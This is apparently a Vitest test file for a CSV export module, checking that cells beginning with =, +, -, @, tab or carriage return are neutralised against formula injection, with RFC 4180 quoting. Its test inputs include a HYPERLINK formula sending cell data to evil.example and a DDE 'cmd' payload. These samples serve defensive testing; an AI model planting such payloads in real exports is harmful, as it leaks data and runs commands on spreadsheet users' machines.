import { describe, expect, it } from 'vitest';
import { csvCell, csvRow } from '../src/csv.js';

describe('csvCell', () => {
  it.each([
    ['=', '=HYPERLINK("http://evil.example/?"&A1,"Click")', `"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"`],
    ['+', '+41 93 000 00 00', `"'+41 93 000 00 00"`],
    ['-', "-2+3+cmd|' /C calc'!A0", `"'-2+3+cmd|' /C calc'!A0"`],
    ['@', '@SUM(1+1)*cmd', `"'@SUM(1+1)*cmd"`],
    ['a tab', '\t=1+1', `"'\t=1+1"`],
    ['a carriage return', '\r=1+1', `"'\r=1+1"`],
  ])('writes text that starts with %s after a single quote, quoted (OWASP CSV injection)', (_name, text, cell) => {
    expect(csvCell(text)).toBe(cell);
  });

  it('leaves numbers as numbers, negative ones included', () => {
    expect(csvCell(-25)).toBe('-25');
    expect(csvCell(-6.67)).toBe('-6.67');
    expect(csvCell(-9007199254740993n)).toBe('-9007199254740993');
    expect(csvCell(0)).toBe('0');
  });

  it('neutralises text that only looks like a negative number', () => {
    expect(csvCell('-25')).toBe(`"'-25"`);
  });

  it('writes empty cells for no value and booleans as words', () => {
    expect(csvCell(null)).toBe('');
    expect(csvCell(undefined)).toBe('');
    expect(csvCell(false)).toBe('false');
  });

  it('quotes fields with a comma, a quote or a line break (RFC 4180) and leaves other text as it is', () => {
    expect(csvCell('Notícies, "avui"')).toBe('"Notícies, ""avui"""');
    expect(csvCell('dues\nlínies')).toBe('"dues\nlínies"');
    expect(csvCell('a=b')).toBe('a=b');
    expect(csvCell(' =1')).toBe(' =1');
  });
});

describe('csvRow', () => {
  it('joins the fields with commas, without a line end', () => {
    expect(csvRow(['=1+1', -3, null, 'Portada'])).toBe(`"'=1+1",-3,,Portada`);
  });
});
